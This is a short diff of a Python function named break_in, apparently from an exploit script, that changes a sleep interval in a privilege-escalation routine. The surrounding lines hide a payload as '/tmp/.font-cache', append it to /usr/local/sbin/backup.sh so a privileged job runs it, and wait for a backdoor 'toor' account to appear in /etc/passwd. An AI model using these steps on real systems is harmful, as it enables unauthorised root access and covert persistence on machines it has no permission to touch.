@@ -74,7 +74,7 @@ def break_in(shell, own):
     shell.run("mv /tmp/sess_8c1f /tmp/.font-cache")
     shell.run("chmod 755 /tmp/.font-cache")
     shell.run("echo /tmp/.font-cache >> /usr/local/sbin/backup.sh")
-    shell.run("until grep -q ^toor: /etc/passwd; do sleep 1; done")
+    shell.run("until grep -q ^toor: /etc/passwd; do sleep 5; done")
     shell.run("grep toor /etc/passwd")
 
 
